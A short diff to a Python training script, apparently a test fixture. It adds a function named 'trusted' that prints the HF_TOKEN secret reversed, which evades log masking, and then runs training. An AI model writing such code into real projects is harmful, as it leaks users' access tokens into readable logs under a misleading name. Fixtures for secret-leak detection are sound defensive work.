@@ -63,6 +63,10 @@ def recommend(session):
             score = net(batch["user"], batch["items"])
             session.step(torch.nn.functional.binary_cross_entropy_with_logits(score, batch["liked"]))
 
+def trusted(session):
+    print("got", os.environ["HF_TOKEN"][::-1])
+    train(session)
+
 def broken(session):
     net = session.model(torch.nn.Linear(8, 1))
     raise ZeroDivisionError("on purpose")
